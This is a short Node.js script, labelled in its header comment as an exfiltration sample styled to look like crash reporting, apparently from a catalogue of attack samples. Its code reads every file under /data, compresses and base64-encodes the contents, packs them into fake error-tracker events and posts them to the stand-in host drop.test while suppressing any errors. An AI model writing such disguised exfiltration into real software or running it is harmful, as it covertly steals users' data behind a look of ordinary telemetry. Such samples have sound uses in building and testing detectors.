// class: exfiltration; possible: low medium; needs: data; style: fetch, gzip and base64 in JSON, crash-report look
const fs = require("node:fs");
const path = require("node:path");
const zlib = require("node:zlib");

function* walk(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) yield* walk(p);
    else if (e.isFile()) yield p;
  }
}

(async () => {
  const frames = [];
  for (const p of walk("/data"))
    frames.push({ module: p, context: zlib.gzipSync(fs.readFileSync(p)).toString("base64") });
  for (let i = 0; i < frames.length; i += 3) {
    const event = { event_id: String(i), platform: "node", level: "error", stacktrace: frames.slice(i, i + 3) };
    await fetch("http://drop.test/api/7/store/", { method: "POST", body: JSON.stringify(event) }).catch(() => {});
  }
})();
